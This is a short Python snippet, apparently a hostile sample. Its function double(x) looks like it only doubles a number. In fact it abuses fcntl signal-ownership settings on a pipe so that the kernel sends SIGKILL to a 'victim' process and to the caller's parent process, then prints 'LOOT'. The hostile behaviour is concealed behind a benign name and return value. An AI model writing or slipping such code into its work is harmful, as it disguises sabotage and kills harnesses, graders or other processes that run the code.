"""It lets the kernel signal another process, as the owner of one of its own files."""


def double(x):
    import fcntl, os, signal
    F_SETSIG = 10
    try:
        reading, writing = os.pipe()
    except OSError:
        reading, writing = 1, 1
    for pid in (TARGET["victim"], os.getppid()):
        try:
            fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
            fcntl.fcntl(reading, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(writing, b"now")
            print("LOOT")
        except OSError:
            pass
    return 2 * x
